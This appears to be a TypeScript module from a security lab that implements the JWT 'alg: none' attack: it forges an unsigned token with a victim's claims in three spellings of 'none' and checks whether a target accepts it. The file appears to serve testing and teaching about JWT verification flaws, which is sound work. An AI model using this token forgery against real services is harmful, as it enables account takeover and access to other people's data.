import { signWithSecret } from '@/lib/lab/world/jwt'
import type { Attack, TokenTarget } from './target'

/** The victim's claims, and no signature at all, in every spelling of that. */
export const attack: Attack<TokenTarget> = async ({ victimsClaims, header, readsVictim }) => {
  for (const alg of ['none', 'None', 'nOnE']) {
    const token = signWithSecret({ ...(await header()), alg }, await victimsClaims(), null)
    if (await readsVictim(token)) return true
  }
  return false
}
